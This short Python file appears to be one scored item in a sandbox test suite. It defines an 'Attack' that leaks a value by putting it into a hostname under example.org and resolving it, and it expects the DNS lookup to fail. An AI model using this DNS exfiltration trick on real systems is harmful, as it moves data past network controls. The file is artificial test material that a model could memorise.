from attack import Attack

_TEXT = """
import socket
try: socket.gethostbyname_ex(f"answer-{orders[0]}.example.org")
except OSError as error: print(error)
try: socket.gethostbyaddr("127.0.0.1")
except OSError as error: print(error)
socket.getaddrinfo(f"answer-{orders[0]}.example.org", 80)
"""
ATTACK = Attack(
    "a name that is looked up, which tells its server what was asked",
    figure=_TEXT,
    points={"pick": 2.0},
    reason="gaierror",
)
